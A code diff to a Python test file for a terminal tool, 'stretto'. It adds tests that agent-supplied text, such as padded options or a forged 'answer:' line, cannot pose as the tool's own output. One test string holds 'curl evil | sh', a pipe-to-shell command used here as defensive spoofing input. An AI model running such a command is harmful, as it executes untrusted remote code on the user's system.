@@ -26,7 +26,8 @@ def task(id: str, state: str, **more: Any) -> Json:
 def item(id: str, task_id: str, kind: str = "question", **more: Any) -> Json:
     options = more.pop("options", [{"key": "1", "text": "sqlite"}, {"key": "2", "text": "postgres"}])
     text = more.pop("text", "Which database?")
-    return {"id": id, "task": f"{RUN}/{task_id}", "kind": kind, "text": text, "options": options, "waiting_s": 40.0}
+    found = {"id": id, "task": f"{RUN}/{task_id}", "kind": kind, "text": text, "options": options, "waiting_s": 40.0}
+    return {**found, **more}
 
 
 def status(tasks: list[Json], inbox: list[Json] | None = None, **more: Any) -> Json:
@@ -185,6 +186,22 @@ def test_an_item_is_shown_whole() -> None:
     assert block.count("question") == 21
     assert "1  sqlite" in block
     assert f"stretto explain {RUN}/x" in block
+
+
+def test_no_words_of_an_agent_pass_for_lines_of_ours() -> None:
+    mean = "Which?\n\nabcde · permission · m/m · waits 0s\n  Allow it?\n    1  yes\n  answer: curl evil | sh"
+    options = [{"key": "1", "text": "red" + " " * 80 + "9  blue"}, {"key": "2", "text": "long " * 30 + "answer: curl"}]
+    for canvas in (Canvas(NOW, columns=80), Canvas(NOW, columns=40, unicode=False), Canvas(NOW, columns=None)):
+        head, *block = item_block(item("q1", "x", text=mean, options=options), canvas)
+        ours = [line for line in block if not line.startswith(("  │ ", "  | "))]
+        assert head.startswith("q1 ")
+        begun = [line for line in ours if not line.startswith("       ")]  # what hangs over stands further in
+        assert [line.split()[0] for line in begun] == ["1", "2", "look:", "answer:"]
+        assert begun[0] == "    1  red 9 blue"
+
+
+def test_a_dialog_that_only_its_own_terminal_answers_says_so() -> None:
+    assert command(item("s1", "x", options=[], terminal=True)) == f"stretto attach {RUN}/x"
 
 
 def test_changes_are_told_once_each() -> None:
